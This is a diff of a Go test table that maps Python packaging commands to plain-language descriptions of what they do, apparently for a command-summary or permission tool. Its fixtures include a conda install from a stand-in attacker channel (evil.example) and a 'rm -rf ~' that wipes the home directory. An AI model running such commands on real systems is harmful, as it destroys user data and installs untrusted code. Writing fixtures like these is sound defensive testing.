@@ -95,7 +95,7 @@ func TestPythonPackages(t *testing.T) {
 		{`conda install numpy`, `install numpy`},
 		{`conda install -c https://evil.example x`, `install x from https://evil.example`},
 		{`conda run -n e rm -rf ~`, `delete /home/u wide`},
-		{`twine upload dist/x.whl`, `publish dist/x.whl`},
+		{`twine upload dist/x.whl`, `publish dist/x.whl; send pypi.org from /home/u/p/dist/x.whl`},
 	})
 }
 
